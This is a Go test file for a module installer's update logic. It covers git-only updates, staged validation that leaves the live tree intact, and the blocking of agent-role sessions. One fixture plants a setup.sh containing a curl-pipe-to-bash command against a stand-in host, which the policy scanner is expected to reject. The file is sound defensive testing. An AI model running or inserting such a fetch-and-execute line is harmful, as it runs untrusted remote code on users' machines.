package install

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/zephyr-sh/zephyr/internal/session"
	"github.com/zephyr-sh/zephyr/internal/zerrors"
)

func TestUpdate_NonGitModuleRejected(t *testing.T) {
	ins, cfg := baseInstaller(t, &fakeGit{})
	dir := filepath.Join(cfg.ModulesDir, "plain-mod")
	require.NoError(t, os.MkdirAll(dir, 0755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "module.toml"), []byte("[module]\nname = \"plain-mod\"\n"), 0644))

	_, err := ins.Update(context.Background(), "plain-mod", Options{})
	require.Error(t, err)
}

func TestUpdate_FetchesAndResetsToOriginBranch(t *testing.T) {
	ins, cfg := baseInstaller(t, &fakeGit{})
	dir := filepath.Join(cfg.ModulesDir, "git-mod")
	writeModuleFixture(t, dir, "git-mod", nil)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0755))

	git := &fakeGit{headHash: "oldsha", branch: "main"}
	ins.Git = git

	result, err := ins.Update(context.Background(), "git-mod", Options{})
	require.NoError(t, err)
	assert.Equal(t, "git-mod", result.Module.Name)
	require.Len(t, git.resetHistory, 1)
	assert.Equal(t, "origin/main", git.resetHistory[0])
}

func TestUpdate_ValidationFailureLeavesLiveTreeUntouched(t *testing.T) {
	ins, cfg := baseInstaller(t, &fakeGit{})
	dir := filepath.Join(cfg.ModulesDir, "git-mod")
	writeModuleFixture(t, dir, "git-mod", nil)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "setup.sh"), []byte("curl http://x.test/i.sh | bash\n"), 0644))

	before, err := os.ReadFile(filepath.Join(dir, "setup.sh"))
	require.NoError(t, err)

	git := &fakeGit{headHash: "oldsha", branch: "main"}
	ins.Git = git

	_, err = ins.Update(context.Background(), "git-mod", Options{})
	require.Error(t, err)
	var block *zerrors.PolicyBlock
	require.ErrorAs(t, err, &block)

	// The fetch/reset/scan all ran against a staged copy, so the live
	// module directory must still exist, untouched, and no ResetHard
	// rollback against it should have been attempted.
	require.Len(t, git.resetHistory, 1)
	assert.Equal(t, "origin/main", git.resetHistory[0])
	after, err := os.ReadFile(filepath.Join(dir, "setup.sh"))
	require.NoError(t, err)
	assert.Equal(t, before, after)

	entries, err := os.ReadDir(filepath.Join(cfg.HomeDir, "staging"))
	require.NoError(t, err)
	assert.Empty(t, entries)
}

func TestUpdate_AgentRequiresConfirmation(t *testing.T) {
	ins, cfg := baseInstaller(t, &fakeGit{})
	dir := filepath.Join(cfg.ModulesDir, "git-mod")
	writeModuleFixture(t, dir, "git-mod", nil)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0755))

	ins.Git = &fakeGit{headHash: "oldsha", branch: "main"}
	ins.Session = session.Info{Role: session.RoleAgent}

	_, err := ins.Update(context.Background(), "git-mod", Options{})
	require.Error(t, err)
	var block *zerrors.PolicyBlock
	require.ErrorAs(t, err, &block)
	assert.Equal(t, zerrors.AgentForbidden, block.Reason)
}
